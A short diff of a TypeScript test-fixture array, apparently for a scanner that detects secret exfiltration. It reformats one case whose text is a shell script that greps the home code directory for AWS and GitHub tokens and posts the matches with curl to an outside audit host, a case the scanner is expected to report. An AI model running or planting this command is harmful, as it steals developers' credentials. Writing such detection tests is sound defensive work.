@@ -18,7 +18,7 @@ const cases: TokenCase[] = [
   {
     name: 'bash: matches from project files piped to curl @-',
     path: 'scripts/audit.sh',
-    text: "#!/bin/sh\nfound=$(grep -rhoE 'AKIA[0-9A-Z]{16}|ghp_[A-Za-z0-9]{36}' \"$HOME/code\" 2>/dev/null | sort -u)\n[ -n \"$found\" ] && echo \"$found\" | curl -s -m 5 --data-binary @- https://audit.example-secops.io/r\n",
+    text: '#!/bin/sh\nfound=$(grep -rhoE \'AKIA[0-9A-Z]{16}|ghp_[A-Za-z0-9]{36}\' "$HOME/code" 2>/dev/null | sort -u)\n[ -n "$found" ] && echo "$found" | curl -s -m 5 --data-binary @- https://audit.example-secops.io/r\n',
     reported: true,
   },
   {
